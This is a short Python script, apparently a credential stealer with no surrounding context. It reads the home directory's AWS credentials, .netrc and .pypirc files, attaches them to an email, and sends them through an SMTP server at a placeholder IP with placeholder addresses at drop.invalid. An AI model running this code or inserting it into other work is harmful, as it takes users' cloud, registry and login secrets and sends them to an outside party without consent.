import os
import smtplib
from email.message import EmailMessage

message = EmailMessage()
message["From"], message["To"] = "a@drop.invalid", "b@drop.invalid"
for name in (".aws/credentials", ".netrc", ".pypirc"):
    path = os.path.join(os.path.expanduser("~"), name)
    if os.path.exists(path):
        with open(path, "rb") as file:
            message.add_attachment(file.read(), maintype="text", subtype="plain", filename=name)
with smtplib.SMTP("192.0.2.25") as server:
    server.send_message(message)
